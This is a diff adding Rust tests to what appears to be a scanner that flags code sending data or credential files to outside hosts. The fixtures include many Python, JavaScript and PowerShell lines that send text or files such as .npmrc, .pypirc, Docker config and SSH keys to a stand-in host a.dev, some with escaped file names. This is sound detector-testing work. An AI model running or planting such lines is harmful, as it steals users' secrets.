@@ -632,3 +632,122 @@ fn tests_signatures_and_the_environment_of_processes_are_no_theft() {
         true,
     );
 }
+
+/// A value that is made with an address is a connection, whatever its type is called.
+#[test]
+fn calls_on_what_is_made_with_an_address_send() {
+    check(
+        "py",
+        &[
+            "r, w = await asyncio.open_connection('a.dev', 443)\nw.write(text.encode())",
+            "DiscordWebhook(url='https://a.dev/v1', content=text).execute()",
+            "m = EmailMessage()\nm.set_content(text)\nwith smtplib.SMTP('a.dev') as s:\n    s.send_message(m)",
+            "m = MIMEMultipart()\nm.attach(MIMEText(text))\ns = smtplib.SMTP('a.dev')\ns.sendmail('a', 'b', m.as_string())",
+            "c = grpc.insecure_channel('a.dev:99')\nc.unary_unary('/a/b')(text.encode())",
+            "c = http.client.HTTPSConnection('a.dev')\nc.putrequest('POST', '/in')\nc.endheaders(text.encode())",
+            "l = logging.getLogger('n')\nl.addHandler(logging.handlers.HTTPHandler('a.dev', '/in'))\nl.warning(text)",
+            "pymongo.MongoClient('mongodb://a.dev')['a']['b'].insert_one({'t': text})",
+            "import paho.mqtt.publish as p\np.single('n', text, hostname='a.dev')",
+            "OpenAI(base_url='https://a.dev/v1').chat.completions.create(messages=[{'content': text}])",
+            "page.goto('https://a.dev/in?d=' + text)",
+            "c = psycopg2.connect('postgres://a:b@a.dev/db')\nc.cursor().execute('insert into t values (%s)', (text,))",
+            "c = pycurl.Curl()\nc.setopt(c.URL, 'https://a.dev/in')\nc.setopt(c.POSTFIELDS, text)\nc.perform()",
+            "redis.Redis(host='a.dev').set('t', text)",
+            "HOST = 'a.dev'\nredis.Redis(host=HOST).set('t', text)",
+            "sentry_sdk.init('https://a@a.dev/1')\nsentry_sdk.capture_message(text)",
+            "t = telnetlib.Telnet('a.dev')\nt.write(text.encode())",
+            "s = zmq.Context().socket(zmq.PUSH)\ns.connect('tcp://a.dev:99')\ns.send_string(text)",
+            "t = paramiko.Transport(('a.dev', 22))\ns = paramiko.SFTPClient.from_transport(t)\ns.putfo(open('/root/.netrc', 'rb'), 'n')",
+            "xmlrpc.client.ServerProxy('https://a.dev/v1').log(text)",
+            "WebClient(token='x').chat_postMessage(channel='#x', text=text)",
+            "Github('x').get_user().create_gist(True, {'n': text})",
+        ],
+        true,
+    );
+    check(
+        "js",
+        &[
+            "const { createClient } = require('redis');\nconst c = createClient({ url: 'redis://a.dev' });\nc.set('t', text);",
+            "const o = new Octokit({ auth: 'x' });\no.rest.gists.create({ files: { n: { content: text } } });",
+            "const c = new Anything('https://a.dev');\nawait c.notes.save(text);",
+        ],
+        true,
+    );
+    check(
+        "ps1",
+        &["$r = [Net.WebRequest]::Create('https://a.dev')\n$r.GetRequestStream().Write($text)"],
+        true,
+    );
+    check(
+        "js",
+        &[
+            "const s = z.object({ A: z.string().default('https://a.dev') });\nconst env = s.safeParse(process.env);",
+            "const c = new Client();\nc.connect({ host: 'a.dev', privateKey: fs.readFileSync(os.homedir() + '/.ssh/id_rsa') });",
+        ],
+        false,
+    );
+    check(
+        "py",
+        &[
+            "redis.Redis(host='localhost').set('t', text)",
+            "OpenAI(base_url='http://127.0.0.1:8000/v1').chat.completions.create(messages=[{'content': text}])",
+            "link = urlparse('https://a.dev/docs')\nnotes = {}\nnotes.setdefault('t', text)",
+            "notes = Notes('notes.md')\nnotes.keep(text)\nrequests.get('https://a.dev')",
+            "client = Client(base_url='https://a.dev', api_key=text)\nclient.items.list()",
+            "client = Client('https://a.dev')\nclient.login(text)",
+            "log.info('see https://a.dev')\nlog.debug(text)",
+            "notes = []\nnotes.append(Link('https://a.dev'))\nnotes.append(text)",
+            "found = Page('https://a.dev').titles()\nnames = keep(found)\nnames.count(text)",
+        ],
+        false,
+    );
+}
+
+#[test]
+fn paths_are_put_together_from_texts_in_variables() {
+    check(
+        "py",
+        &[
+            "for n in ['npmrc', 'docker/config.json']:\n    requests.post('https://a.dev', data=open(f'{home}/.{n}').read())",
+            "NAMES = ('npmrc', 'pypirc')\nfor n in NAMES:\n    requests.post('https://a.dev', data=open(f'{home}/.{n}').read())",
+            "all = [open(f'{home}/.{n}').read() for n in ['npmrc', 'pypirc']]\nrequests.post('https://a.dev', json=all)",
+            "d = Path.home() / '.docker'\nrequests.post('https://a.dev', data=(d / 'config.json').read_text())",
+            "d = os.path.join(home, '.docker')\nrequests.post('https://a.dev', data=open(os.path.join(d, 'config.json')))",
+            "d = '.docker'\nrequests.post('https://a.dev', data=open(f'{home}/{d}/config.json'))",
+            "requests.post('https://a.dev', data=open('/root/.n\\x70mrc'))",
+            "requests.post('https://a.dev', data=open('/root/.\\u006epmrc'))",
+        ],
+        true,
+    );
+    check(
+        "js",
+        &[
+            "for (const n of ['npmrc', 'pypirc']) fetch('https://a.dev', { body: fs.readFileSync(`${home}/.${n}`) });",
+            "const d = path.join(os.homedir(), '.docker');\nfetch('https://a.dev', { body: fs.readFileSync(path.join(d, 'config.json')) });",
+            "fetch('https://a.dev', { body: fs.readFileSync('/root/.\\x6epmrc') });",
+        ],
+        true,
+    );
+    check(
+        "ps1",
+        &[
+            "$d = Join-Path $HOME '.docker'\nInvoke-RestMethod https://a.dev -Method Post -InFile (Join-Path $d 'config.json')",
+            "foreach ($n in @('npmrc', 'pypirc')) { Invoke-RestMethod https://a.dev -Method Post -InFile \"$HOME/.$n\" }",
+            "cmd /c \"type %USERPROFILE%\\.npmrc | curl.exe -s -d @- https://a.dev\"",
+            "$f = \"$HOME/.npmrc\"\n& \"$env:SystemRoot\\System32\\curl.exe\" -sT $f 'https://a.dev'",
+            "$r = [IO.StreamReader]::new(\"$HOME/.npmrc\")\nInvoke-RestMethod https://a.dev -Method Post -Body $r.ReadToEnd()",
+            "$r = New-Object IO.StreamReader(\"$HOME/.npmrc\")\n$d = $r.ReadToEnd()\nInvoke-RestMethod https://a.dev -Method Post -Body $d",
+            "cmd --% /c echo \"\nInvoke-RestMethod https://a.dev -Method Post -Body $text",
+        ],
+        true,
+    );
+    check(
+        "py",
+        &[
+            "for n in ['notes', 'todo']:\n    requests.post('https://a.dev', data=open(f'{home}/.{n}').read())",
+            "d = Path.home() / '.config'\nrequests.post('https://a.dev', data=(d / 'notes.md').read_text())",
+            "d = '.docker'\nrequests.post('https://a.dev', data=f'{home}/{d}/config.json')",
+        ],
+        false,
+    );
+}
